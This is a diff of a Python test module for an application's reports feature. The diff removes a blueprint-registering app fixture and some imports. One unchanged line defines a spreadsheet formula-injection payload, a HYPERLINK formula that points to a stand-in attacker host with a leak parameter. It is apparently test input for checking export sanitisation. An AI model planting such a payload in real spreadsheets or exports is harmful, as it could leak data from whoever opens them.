@@ -9,36 +9,16 @@ from datetime import date
 import pytest
 from sqlalchemy import select
 
-from maf import create_app
 from maf.audit.models import AuditEvent
 from maf.auth.models import Role
 from maf.dbtypes import utcnow
 from maf.directory.models import AgencyType
 from maf.extensions import db
 from maf.reports import charts, figures
-from maf.reports.views import SECTIONS, bp
-from tests.conftest import IsolatedClient
+from maf.reports.views import SECTIONS
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click for details")'
 QUARTER = {"from": "2027-01-01", "to": "2027-03-31"}
-
-
-@pytest.fixture(scope="module")
-def app(app):
-    """The session app, or, until create_app registers the blueprint, an app of our own.
-
-    Flask refuses a blueprint once an app has served a request, which the session app has by
-    the time this module runs in the full suite; so a second app shares its migrated database.
-    """
-    if "reports" in app.blueprints:
-        yield app
-        return
-    own = create_app("test", SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"])
-    own.test_client_class = IsolatedClient
-    own.register_blueprint(bp)
-    yield own
-    with own.app_context():
-        db.engine.dispose()
 
 
 @pytest.fixture
